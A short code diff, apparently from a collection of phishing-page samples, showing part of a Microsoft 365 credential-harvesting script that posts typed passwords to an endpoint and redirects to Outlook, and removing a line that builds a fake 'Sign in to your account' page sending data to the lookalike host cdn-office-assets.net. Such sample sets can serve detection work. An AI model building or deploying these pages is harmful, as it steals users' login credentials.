@@ -22,8 +22,6 @@ fetch(${JSON.stringify(endpoint)},{method:'POST',headers:{'Content-Type':'applic
 if(n<2||!j.valid){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}else{location.replace(${JSON.stringify(finalUrl)}.replace('{d}',dom))}}).catch(function(){document.getElementById('er').style.display='block'})};
 </script>`;
 
-const smuggledLogin = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title><style>${msCss}</style></head><body>${m365Kit('https://cdn-office-assets.net/api/v2/collect', 'https://outlook.office.com/mail/')}</body></html>`;
-
 export const entries: Entry[] = [
 {
   id: 'yl-m365-hash-email-prefill',
